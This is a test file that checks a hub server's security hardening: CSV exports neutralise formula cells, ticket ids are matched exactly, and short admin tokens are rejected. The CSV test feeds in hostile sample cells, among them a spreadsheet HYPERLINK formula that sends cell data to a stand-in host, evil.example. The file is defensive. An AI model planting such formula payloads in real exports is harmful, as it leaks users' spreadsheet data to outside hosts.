import Database from 'better-sqlite3';
import { spawnSync } from 'node:child_process';
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { io, type Socket } from 'socket.io-client';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ScreenToken, SiteToken } from '../../src/shared/adminApi.js';
import { startHub, type RunningHub } from '../../src/hub/hubServer.js';
import { HUB_ENTRY } from '../support/hubProcess.js';
import { backlogOf } from '../support/impressionsFixture.js';

/**
 * Security (issue 17), the smaller points: CSV export cells a spreadsheet would run are
 * neutralised, a ticket's issue is found by its exact id (no LIKE wildcard), and an admin
 * token from the environment must be long enough.
 */

const ADMIN = 'hardening-admin-token-0123456789abcdef';
let hub: RunningHub;
let dbPath: string;

async function http(method: string, path: string, options: { token?: string; body?: unknown } = {}): Promise<{ status: number; text: string }> {
  const response = await fetch(new URL(path, hub.url), {
    method,
    headers: { ...(options.token ? { authorization: `Bearer ${options.token}` } : {}), ...(options.body === undefined ? {} : { 'content-type': 'application/json' }) },
    ...(options.body === undefined ? {} : { body: JSON.stringify(options.body) }),
  });
  return { status: response.status, text: await response.text() };
}

beforeAll(async () => {
  dbPath = join(mkdtempSync(join(tmpdir(), 'antichambre-hardening-')), 'hub.db');
  hub = await startHub({ db: dbPath, port: 0, host: '127.0.0.1', adminToken: ADMIN, log: () => {} });
});
afterAll(async () => {
  await hub?.close();
});

describe('security: hardening', () => {
  it('neutralises CSV cells that start with = + - @, a tab or a carriage return', async () => {
    const screen = JSON.parse((await http('POST', '/api/screens', { token: ADMIN, body: { id: 'ecran-csv', name: 'CSV', site: 'mairie', timezone: 'Europe/Paris' } })).text) as ScreenToken;
    const socket = await new Promise<Socket>((resolve, reject) => {
      const s = io(`${hub.url}/screens`, { auth: { screenId: 'ecran-csv', token: screen.token, protocol: 1, version: 'csv' }, transports: ['websocket'], reconnection: false });
      s.once('connect', () => resolve(s));
      s.once('connect_error', reject);
    });
    const [a, b, c, d] = backlogOf('ecran-csv', 4);
    const hostile = [
      { ...a!, revision: '=HYPERLINK("http://evil.example/?"&A1,"clic")' },
      { ...b!, itemId: '-23', revision: '+cmd' },
      { ...c!, revision: '@SUM(1+1)' },
      { ...d!, revision: '\tr0', playlistId: 'normal' },
    ];
    expect(await socket.timeout(10_000).emitWithAck('impressions', { impressions: hostile })).toMatchObject({ ok: true, stored: 4 });
    socket.close();
    const csv = (await http('GET', '/api/impressions?format=csv&screen=ecran-csv', { token: ADMIN })).text;
    const rows = csv.trim().split('\r\n');
    expect(rows).toHaveLength(5);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""clic"")"`);
    expect(csv).toContain(",'-23,'+cmd,");
    expect(csv).toContain(",'@SUM(1+1),");
    expect(csv).toContain(",'\tr0,");
    // No cell of any row starts with a formula character unless quoted after the neutralising quote.
    for (const row of rows.slice(1)) for (const cell of row.split(',')) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // Ordinary cells are left as they were.
    expect(rows[1]).toMatch(/^[0-9a-f-]{36},ecran-csv,/);
  });

  it('finds a called ticket\'s own issue, even when its id holds _ (a LIKE wildcard)', async () => {
    const siteToken = (JSON.parse((await http('POST', '/api/sites/guichets/token', { token: ADMIN, body: {} })).text) as SiteToken).token;
    const at = (hh: number, mm: number) => new Date(Date.UTC(2026, 10, 2, hh, mm)).toISOString();
    const events = [
      { type: 'issued', ticket: 'A_1', service: 'etat-civil', at: at(8, 0) },
      { type: 'issued', ticket: 'AB1', service: 'etat-civil', at: at(8, 30) },
      { type: 'called', ticket: 'A_1', counter: 'g1', at: at(9, 0) },
    ];
    expect((await http('POST', '/api/sites/guichets/queue', { token: siteToken, body: { events } })).status).toBe(200);
    const db = new Database(dbPath, { readonly: true });
    const waits = db.prepare("SELECT ticket, issued_at, minutes FROM realized_waits WHERE site = 'guichets'").all();
    db.close();
    expect(waits).toEqual([{ ticket: 'A_1', issued_at: at(8, 0), minutes: 60 }]);
  });

  it('refuses to serve with an admin token from the environment shorter than 32 characters, saying so', () => {
    const dir = mkdtempSync(join(tmpdir(), 'antichambre-short-token-'));
    const refused = spawnSync(process.execPath, [HUB_ENTRY, 'serve', '--db', join(dir, 'hub.db'), '--port', '0', '--host', '127.0.0.1'], {
      encoding: 'utf8',
      env: { ...process.env, ANTICHAMBRE_ADMIN_TOKEN: 'trop-court-0123456789' },
      timeout: 20_000,
    });
    expect(refused.status).not.toBe(0);
    expect(refused.stderr).toContain('ANTICHAMBRE_ADMIN_TOKEN: 21 characters, expected at least 32');
    expect(refused.stderr).toContain('au moins 32 caractères');
  });
});
